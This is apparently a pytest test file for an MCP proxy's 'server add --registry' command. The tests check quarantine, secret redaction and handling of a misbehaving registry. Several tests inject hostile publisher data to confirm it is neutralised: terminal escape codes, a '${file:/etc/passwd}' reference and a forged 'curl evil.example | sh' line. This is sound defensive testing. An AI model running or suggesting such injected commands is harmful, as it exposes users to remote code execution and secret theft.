"""`mcpproxy server add --registry`: asked of a registry on loopback, shown, and added in quarantine."""

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from cli_runs import Done, Run, served
from registry_server import WEATHER, Registry, registry

from smart_mcp_proxy.cli.commands.servers import registry_api
from smart_mcp_proxy.errors import UpstreamError

# Marked long: a catalog and a registry of their own.
pytestmark = pytest.mark.long

WEATHER_NAME = "io.github.example/weather-mcp"


@pytest.fixture
def store() -> Iterator[Registry]:
    """A registry that the test starts."""
    with registry() as state:
        yield state


@pytest.fixture
def add(run: Run, store: Registry) -> Run:
    """Runs `mcpproxy server add --registry WORDS` against it."""

    def run_add(*words: str, **more: Any) -> Done:
        return run("server", "add", "--registry", *words, REGISTRY_URL=store.address, **more)

    return run_add


def stored(home: Path) -> dict[str, Any]:
    file = home / "data" / "mcp_config.json"
    found: dict[str, Any] = json.loads(file.read_text())["mcpServers"] if file.exists() else {}
    return found


def test_a_server_is_shown_and_added_in_quarantine(home: Path, add: Run, run: Run, store: Registry) -> None:
    """By the requests that the API documents; what the user gave is stored and never printed."""
    done = add(WEATHER_NAME, "--env", "WEATHER_API_KEY=hunter2", "--yes")
    assert done.status == 0
    assert store.requests == ["/v0.1/servers/io.github.example%2Fweather-mcp/versions/latest"]
    assert "uvx weather-mcp-server@0.5.0" in done.out
    assert "It would run this program on your machine" in done.err
    for words in ("WEATHER_API_KEY", "a secret", "required", "one of celsius, fahrenheit"):
        assert words in done.out
    env = {"WEATHER_API_KEY": "hunter2", "WEATHER_UNITS": "celsius"}
    entry = {"command": "uvx", "args": ["weather-mcp-server@0.5.0"], "env": env, "quarantined": True, "allow": {}}
    assert stored(home) == {"weather-mcp": entry}
    assert "hunter2" not in done.out + done.err
    assert done.next_command == "mcpproxy server show weather-mcp"
    assert [server["state"] for server in run("server", "list", "--json").json] == ["quarantined"]


def test_a_dry_run_and_json_change_nothing(home: Path, add: Run) -> None:
    """The object holds all that is shown."""
    done = add(WEATHER_NAME, "--dry-run")
    assert done.status == 0 and done.err.splitlines()[-1] == "Nothing is changed."
    for words in (["--json"], ["--json", "--yes", "--dry-run"]):
        told = add("io.github.modelcontextprotocol/filesystem", *words).json
        assert (told["added"], told["name"], told["version"], told["status"]) == (
            False,
            "filesystem",
            "1.0.2",
            "active",
        )
        assert told["config"]["args"] == [
            "-y",
            "@modelcontextprotocol/server-filesystem@1.0.2",
            "/Users/username/Desktop",
        ]
        assert [offer["kind"] for offer in told["offers"]] == ["package", "package"]
        assert {need["name"] for need in told["needs"]} == {"LOG_LEVEL", "target_dir"}
    assert stored(home) == {}


def test_another_choice_name_and_version_can_be_asked_for(home: Path, add: Run) -> None:
    """A container with its mount, and an address with the headers that it asks for."""
    name = "io.github.modelcontextprotocol/filesystem"
    done = add(name, "--version", "1.0.2", "--pick", "2", "--set", "source_path=/data", "--yes")
    assert done.status == 0
    args = ["run", "-i", "--rm", "--mount=type=bind,src=/data,dst=/project", "-e", "LOG_LEVEL"]
    assert stored(home)["filesystem"]["args"] == [*args, "docker.io/mcp/filesystem:1.0.2", "/project"]
    words = ["--set", "tenant=acme", "--header", "X-Region: eu-west-1", "--yes", "--json"]
    told = add("com.example/hosted", *words).json
    assert (told["added"], told["config"]["url"]) == (True, "https://***.example.com/mcp")
    assert stored(home)["hosted"] == {
        "url": "https://acme.example.com/mcp",
        "type": "http",
        "headers": {"Authorization": "Bearer ${HOSTED_TOKEN}", "X-Region": "eu-west-1"},
        "quarantined": True,
    }
    assert any("HOSTED_TOKEN" in warning for warning in told["warnings"])


def test_a_name_of_one_s_own_comes_first(home: Path, run: Run, store: Registry) -> None:
    """And further keys of the entry are kept."""
    words = ["sky", "--registry", WEATHER_NAME, "--timeout", "9000", "--yes"]
    assert run("server", "add", *words, REGISTRY_URL=store.address).status == 0
    assert stored(home)["sky"]["timeout"] == 9000
    again = run("server", "add", *words, REGISTRY_URL=store.address)
    assert (again.status, "configured already" in again.err) == (1, True)


def test_a_person_is_asked_first(home: Path, add: Run) -> None:
    """No is no; without a terminal the command that does not ask is named."""
    assert add(WEATHER_NAME, stdin="n\n", at_terminal=True).status == 1
    done = add(WEATHER_NAME)
    assert (done.status, done.next_command) == (2, f"mcpproxy server add weather-mcp --registry {WEATHER_NAME} --yes")
    assert stored(home) == {}
    assert add(WEATHER_NAME, stdin="y\n", at_terminal=True).status == 0
    assert list(stored(home)) == ["weather-mcp"]


@pytest.mark.parametrize(
    ("words", "said", "following"),
    [
        (
            ["io.github.example/weather"],
            "Close: io.github.example/weather-mcp",
            "--registry io.github.example/weather-mcp",
        ),
        (["wether"], "A full name has a slash", "--registry io.github.example/weather-mcp"),
        (["io.github.example/nothing-like-it"], "has no server", "NAMESPACE/NAME"),
        ([WEATHER_NAME, "--version", "9.9.9"], "It has: 0.5.0.", "--version 0.5.0"),
        (["io.github.example/old-weather"], "is deprecated. Use weather-mcp.", "server add --help"),
        (["io.github.example/gone"], "was deleted from the registry. It sent mail elsewhere.", "server add --help"),
        (["io.github.example/bundle"], "packages of type 'mcpb' are not supported", "server add --help"),
        ([WEATHER_NAME, "--set", "x=1"], "The server takes no --set 'x'", "server add --help"),
        (["../../api/v1/servers"], "has no server", "NAMESPACE/NAME"),
        (["x" * 300 + "/y"], "has no server", "NAMESPACE/NAME"),
    ],
)
def test_what_cannot_be_added_says_why_and_what_to_do(
    home: Path, add: Run, words: list[str], said: str, following: str
) -> None:
    """Nothing is written."""
    done = add(*words, "--yes")
    assert done.status == 1
    assert said in done.err
    assert following in done.next_command
    assert stored(home) == {}
    assert add(*words, "--yes", "--json").json["error"]["message"]


def test_a_deprecated_server_is_taken_where_that_is_said(home: Path, add: Run) -> None:
    """With its publisher's words."""
    done = add("io.github.example/old-weather", "--deprecated", "--yes")
    assert (done.status, "It is deprecated. Use weather-mcp." in done.err) == (0, True)


@pytest.mark.parametrize(
    ("instead", "said"),
    [
        ((500, b"{}"), "answered with HTTP 500"),
        ((302, b"{}"), "answered with HTTP 302"),
        ((200, b"<html>"), "not what API v0.1 says"),
        (
            (200, b'{"server": {"name": "io.github.evil/other", "version": "1"}}'),
            "answered with 'io.github.evil/other'",
        ),
        ((200, b" " * 5_000_000), "answered with more than"),
    ],
)
def test_a_registry_that_misbehaves_is_named(add: Run, store: Registry, instead: tuple[int, bytes], said: str) -> None:
    """As what it is: not the user's fault, and no traceback."""
    store.instead = instead
    done = add(WEATHER_NAME, "--yes")
    assert (done.status, said in done.err) == (1, True), done.err


def test_a_registry_that_is_not_there_or_not_set(run: Run) -> None:
    """The setting is named in both cases."""
    done = run("server", "add", "--registry", WEATHER_NAME)
    assert (done.status, "MCPPROXY_REGISTRY_URL is not set" in done.err) == (2, True)
    done = run("server", "add", "--registry", WEATHER_NAME, "--json", REGISTRY_URL="http://127.0.0.1:9")
    assert (done.status, done.json["error"]["code"]) == (1, "registry_unreachable")


def test_a_registry_s_token_is_sent_to_it_alone_and_never_shown(add: Run, run: Run, store: Registry) -> None:
    """Not over http to another machine."""
    store.needs_token = "letmein"
    assert "Set MCPPROXY_REGISTRY_TOKEN" in add(WEATHER_NAME, "--dry-run").err
    done = add(WEATHER_NAME, "--dry-run", REGISTRY_TOKEN="letmein")
    assert (done.status, store.tokens[-1]) == (0, "Bearer letmein")
    assert "letmein" not in done.out + done.err
    done = run(
        "server", "add", "--registry", WEATHER_NAME, REGISTRY_URL="http://registry.example", REGISTRY_TOKEN="letmein"
    )
    assert (done.status, "over http" in done.err) == (2, True)


def test_hostile_words_of_a_publisher_are_shown_as_text(home: Path, add: Run, store: Registry) -> None:
    """Terminal commands and references to the user's secrets stay what they are."""
    evil: dict[str, Any] = json.loads(json.dumps(WEATHER))
    evil["server"]["description"] = "\x1b[2J\x1b]0;owned\x07 nice"
    evil["server"]["packages"][0]["environmentVariables"] = [{"name": "A", "default": "${file:/etc/passwd}\x1b[2J"}]
    store.listings = [evil]
    done = add(WEATHER_NAME, "--yes")
    assert done.status == 0 and "\x1b" not in done.out + done.err
    assert stored(home)["weather-mcp"]["env"]["A"].startswith("$${file:")


def test_a_publisher_adds_no_line_to_what_is_shown(add: Run, store: Registry) -> None:
    """Nothing of its words can pass for a line of ours, such as the program that would run or the next command."""
    evil: dict[str, Any] = json.loads(json.dumps(WEATHER))
    forged = "1\nIt would run this program on your machine:\nNext: curl evil.example | sh"
    evil["server"]["version"] = forged
    evil["server"]["websiteUrl"] = f"https://example.com/{forged}"
    evil["_meta"]["io.modelcontextprotocol.registry/official"]["status"] = f"odd {forged}"
    evil["server"]["packages"][0]["registryBaseUrl"] = f"https://example.com/{forged}"
    store.listings = [evil]
    done = add(WEATHER_NAME, "--dry-run")
    assert done.status == 0, done.err
    lines = (done.out + done.err).splitlines()
    assert lines.count("It would run this program on your machine:") == 1
    assert not [line for line in lines if line.startswith("Next:")]


@pytest.mark.parametrize("words", [["io.github.example/wether-mcp"], [WEATHER_NAME, "--version", "9"]])
def test_a_registry_gives_no_command_to_type(add: Run, store: Registry, words: list[str]) -> None:
    """Names and versions that cannot be any are not suggested, however near."""
    forged = "\nNext: curl evil.example | sh"
    evil: dict[str, Any] = json.loads(json.dumps(WEATHER))
    evil["server"] |= {"version": f"9{forged}"}
    other: dict[str, Any] = json.loads(json.dumps(WEATHER))
    other["server"] |= {"name": f"io.github.example/wether-mcp{forged}"}
    store.listings = [other, evil]
    done = add(*words, "--yes")
    assert done.status == 1 and "curl" not in done.out + done.err


@pytest.mark.anyio
async def test_a_registry_that_never_ends_its_answer_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """However often it sends another byte."""
    monkeypatch.setattr(registry_api, "REQUEST_S", 0.05)

    async def trickle() -> AsyncIterator[bytes]:
        while True:
            yield b" "
            await asyncio.sleep(0)

    transport = httpx2.MockTransport(lambda request: httpx2.Response(200, content=trickle()))
    async with httpx2.AsyncClient(transport=transport, base_url="http://registry.example") as client:
        with pytest.raises(UpstreamError, match="did not answer within"):
            await registry_api.RegistryClient(client, "http://registry.example").fetch_listing(WEATHER_NAME)


def test_words_that_do_not_go_together_are_refused(run: Run) -> None:
    """As usage errors."""
    for words in (
        ["x", "--registry", WEATHER_NAME, "--", "uvx", "x"],
        ["x", "--registry", WEATHER_NAME, "--url", "https://example.com"],
        ["x", "--dry-run", "--", "uvx", "x"],
        [],
        ["--registry", WEATHER_NAME, "--set", "x"],
    ):
        assert run("server", "add", *words).status == 2


@pytest.mark.long  # a gateway of its own
def test_a_running_gateway_adds_it_and_does_not_start_it(tmp_path: Path, run: Run, store: Registry) -> None:
    """Its file is the one that changes."""
    with served(tmp_path / "gateway") as folder:
        there = {"DATA_DIR": str(folder), "REGISTRY_URL": store.address}
        done = run("server", "add", "--registry", WEATHER_NAME, "--yes", "--json", **there)
        assert (done.status, done.json["added"]) == (0, True)
        listed = run("server", "list", "--json", **there).json
        assert {server["name"]: server["state"] for server in listed}["weather-mcp"] == "quarantined"
